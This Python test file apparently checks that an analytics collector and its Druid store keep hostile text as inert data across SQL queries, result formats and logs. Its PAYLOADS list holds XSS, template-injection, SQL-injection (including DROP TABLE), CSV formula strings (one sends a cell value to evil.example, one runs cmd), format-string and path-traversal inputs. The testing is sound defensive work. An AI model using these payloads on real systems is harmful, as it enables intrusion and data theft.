"""Texts that are markup, formulas, templates, statements or escapes somewhere: each is stored as data, and comes back as data."""

import csv
import io
import json
from collections.abc import Iterator

import httpx
import pydruid.db
import pytest
from support.collector.events import a_batch, an_event, send
from support.headrace.installation import Installation
from support.waiting import wait_until

PAYLOADS = (
    '<img src=x onerror="top.seen=1">',
    "<script>top.seen=1</script>",
    '"><svg onload=top.seen=1>',
    "<iframe srcdoc='<script>parent.seen=1</script>'>",
    "javascript:top.seen=1",
    "[click](javascript:top.seen=1)",
    "{{ 7*7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "|x",
    "\uff1d1+1",
    "'; DROP TABLE clickstream; --",
    '" OR 1=1 --',
    "' UNION ALL SELECT event_id FROM clickstream --",
    "$$ a $$",
    "E'\\x41'",
    "\\",
    "\\\\",
    "a\\",
    '"',
    '\\"',
    "\\u0000",
    "%s%n%x%1000000d",
    "%00%0a%0d",
    '{"event": "forged", "level": "error"}',
    "level=error event=forged",
    "[bold red]rich[/]",
    "a,b;c|e",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "e\u0301\u0302" * 40,
    "\U0001d54f" * 100,
    "\u0645\u0631\u062d\u0628\u0627 \u4f60\u597d",
)
COLUMNS = ("event_type", "page_title", "product_id", "utm_source", "language", "time_zone")
STATEMENT = f"SELECT {', '.join(COLUMNS)} FROM clickstream WHERE site = 'payloads' ORDER BY __time LIMIT 1000"


@pytest.fixture(scope="module")
def installation(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installation]:
    running = Installation.start(tmp_path_factory.mktemp("state"), "--no-dashboards", "--no-visits")
    with httpx.Client(trust_env=False, timeout=10) as client:
        for text in PAYLOADS:
            source = httpx.QueryParams({"utm_source": text[:100]})
            event = an_event(
                type="purchase",
                title=text,
                url=f"https://shop.example/?{source}",
                language=text,
                time_zone=text,
                parameters={"product_id": text, text[:60]: text},
            )
            answer = send(client, f"http://127.0.0.1:{running.collector_port}", a_batch(event, site="payloads"))
            assert answer.json()["results"] == ["ok"], text
    wait_until(lambda: running.count("site = 'payloads'") == len(PAYLOADS), within_seconds=30)
    yield running
    assert running.stop() == 0


def test_each_text_comes_back_as_it_was_sent(installation: Installation) -> None:
    assert [row["page_title"] for row in installation.sql(STATEMENT)] == [*PAYLOADS]


def test_each_text_can_be_asked_for_as_a_literal_and_as_a_parameter(installation: Installation) -> None:
    url = f"http://127.0.0.1:{installation.sql_port}/druid/v2/sql"
    for text in PAYLOADS:
        doubled = text.replace("'", "''")
        assert installation.count(f"site = 'payloads' AND page_title = '{doubled}'") == 1
        asked = {
            "query": "SELECT COUNT(*) AS n FROM clickstream WHERE page_title = ?",
            "parameters": [{"type": "VARCHAR", "value": text}],
        }
        assert httpx.post(url, json=asked, trust_env=False).json() == [{"n": 1}]


@pytest.mark.parametrize("result_format", ["array", "arrayLines", "objectLines", "csv"])
def test_every_format_of_an_answer_holds_the_same_texts(installation: Installation, result_format: str) -> None:
    url = f"http://127.0.0.1:{installation.sql_port}/druid/v2/sql"
    text = httpx.post(url, json={"query": STATEMENT, "resultFormat": result_format}, trust_env=False).text
    if result_format == "csv":
        found = [row for row in csv.reader(io.StringIO(text, newline="")) if row]
    else:
        values = json.loads(text) if result_format == "array" else [json.loads(line) for line in text.splitlines() if line]
        found = [list(value.values()) if isinstance(value, dict) else value for value in values]
    assert [row[1] for row in found] == [*PAYLOADS]


def test_the_driver_that_dashboards_use_reads_the_same_texts(installation: Installation) -> None:
    cursor = pydruid.db.connect(host="127.0.0.1", port=installation.sql_port, path="/druid/v2/sql", scheme="http").cursor()
    assert [row.page_title for row in cursor.execute(STATEMENT)] == [*PAYLOADS]


def test_no_text_makes_a_log_line_of_its_own(installation: Installation) -> None:
    for name in ("collector", "store"):
        for line in (installation.state / "logs" / f"{name}.log").read_text().splitlines():
            assert "forged" not in line
            json.loads(line)
